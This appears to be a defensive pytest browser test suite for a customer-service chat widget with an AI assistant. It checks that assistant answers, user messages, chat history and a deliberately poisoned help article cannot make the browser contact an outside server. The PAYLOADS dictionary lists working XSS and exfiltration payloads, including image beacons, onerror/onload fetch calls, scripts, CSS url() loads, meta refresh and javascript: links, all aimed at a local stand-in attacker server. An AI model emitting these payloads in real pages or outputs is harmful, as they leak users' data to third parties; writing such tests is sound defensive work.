"""Nothing that a model or an article says makes a customer's browser talk to anybody else.

The judge is the other server's own log: Chromium reports requests that the page's policy stops as well.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Kefu, OpenPage

pytestmark = pytest.mark.browser

PAYLOADS = {
    "markdown image": "![x]({0}/md.png)",
    "image by reference": "![x][r]\n\n[r]: {0}/ref.png",
    "nested image": "![a![b](x)]({0}/nested.png)",
    "html image": "<img src='{0}/img.png'>",
    "picture set": "<picture><source srcset='{0}/set.png'><img></picture>",
    "image with a handler": "<img src=x onerror=\"fetch('{0}/onerror')\">",
    "svg": "<svg onload=\"fetch('{0}/svg')\"><image href='{0}/svg.png'/></svg>",
    "style": "<div style=\"background:url('{0}/css.png');position:fixed;inset:0\">x</div>",
    "style element": "<style>@import '{0}/import.css'; body {{ background: url('{0}/body.png') }}</style>",
    "script": "<script src='{0}/script.js'></script><script>fetch('{0}/inline')</script>",
    "frame": "<iframe src='{0}/frame'></iframe><object data='{0}/object'></object><embed src='{0}/embed'>",
    "media": "<audio src='{0}/a.mp3' autoplay></audio><video poster='{0}/v.png' src='{0}/v.mp4' autoplay></video>",
    "form": "<form action='{0}/form'><input autofocus onfocus='this.form.submit()'></form>",
    "head elements": "<link rel=stylesheet href='{0}/l.css'><meta http-equiv=refresh content='0;url={0}/meta'><base href='{0}/'>",
    "mermaid": '```mermaid\ngraph LR\n  A[&lt;img src={0}/mermaid.png&gt;] --> B\n  click A href "{0}/click"\n```',
    "mathematics": "$$\\includegraphics{{{0}/tex.png}}$$ $$\\href{{{0}/x}}{{y}}$$",
    "link that looks like ours": "[here](//{1}/articles) [there]({0}/link) <{0}/auto> [js](javascript:fetch('{0}/js'))",
    "template": "${{fetch('{0}/template')}} {{{{#each x}}}} `${{fetch('{0}/tick')}}`",
}


@dataclass
class Attacker:
    """A server that waits for a stolen word."""

    address: str
    hits: list[str] = field(default_factory=list)


@pytest.fixture(autouse=True)
def quick_answers(kefu: Kefu, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(kefu.assistant, "pause_seconds", 0.0)


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    found = Attacker(f"http://127.0.0.1:{server.server_port}")
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield found
    server.shutdown()
    server.server_close()
    thread.join()


def _filled(payload: str, attacker: Attacker) -> str:
    return payload.format(attacker.address, attacker.address.removeprefix("http://"))


def test_the_attacker_would_hear_a_request(attacker: Attacker, kefu: Kefu, open_page: OpenPage) -> None:
    watched = open_page(kefu.address)
    watched.context.request.get(f"{attacker.address}/proof")
    assert attacker.hits == ["/proof"]
    attacker.hits.clear()


def test_no_answer_reaches_another_server(attacker: Attacker, kefu: Kefu, open_page: OpenPage) -> None:
    watched = open_page(kefu.address)
    page = watched.page
    for number, (name, payload) in enumerate(PAYLOADS.items(), start=1):
        kefu.assistant.script[name] = f"{_filled(payload, attacker)}\n\nend of {name}"
        page.locator("textarea").fill(name)
        page.keyboard.press("Enter")
        expect(page.locator(".kefu-foot")).to_have_count(number)
        expect(page.locator(".kefu-assistant .kefu-bubble").last).to_contain_text(f"end of {name}")
    page.wait_for_timeout(500)
    assert attacker.hits == []
    bubbles = page.locator(".kefu-assistant .kefu-bubble")
    assert (
        bubbles.locator(
            "img, svg, style, script, iframe, form, input, audio, video, [style], [onload]"
        ).count()
        == 0
    )
    hrefs = bubbles.locator("a").evaluate_all(
        "links => links.map(link => link.getAttribute('href')).filter(Boolean)"
    )
    assert hrefs == []
    assert watched.complaints == []


def test_no_question_and_no_history_reaches_another_server(
    attacker: Attacker, kefu: Kefu, open_page: OpenPage
) -> None:
    page = open_page(kefu.address).page
    for number, payload in enumerate(PAYLOADS.values(), start=1):
        page.locator("textarea").fill(_filled(payload, attacker))
        page.keyboard.press("Enter")
        expect(page.locator(".kefu-foot")).to_have_count(number)
    page.reload()
    expect(page.locator(".kefu-foot")).to_have_count(len(PAYLOADS))
    page.wait_for_timeout(500)
    assert attacker.hits == []


def test_no_article_reaches_another_server(attacker: Attacker, kefu: Kefu, open_page: OpenPage) -> None:
    article = kefu.assistant.articles["zh", "parcel-stuck"]
    body = "\n\n".join(_filled(payload, attacker) for payload in PAYLOADS.values())
    title = _filled("<img src='{0}/title.png'>", attacker)
    kefu.assistant.articles["zh", "poisoned"] = replace(article, id="poisoned", title=title, body=body)
    page = open_page(kefu.address).page
    page.goto(f"{kefu.address}/articles/zh/poisoned")
    expect(page.get_by_role("heading", level=1)).to_have_text(title)
    page.wait_for_timeout(500)
    assert attacker.hits == []
    assert (
        page.locator("main").locator("img, svg, style, script, iframe, form, input, audio, video").count()
        == 0
    )
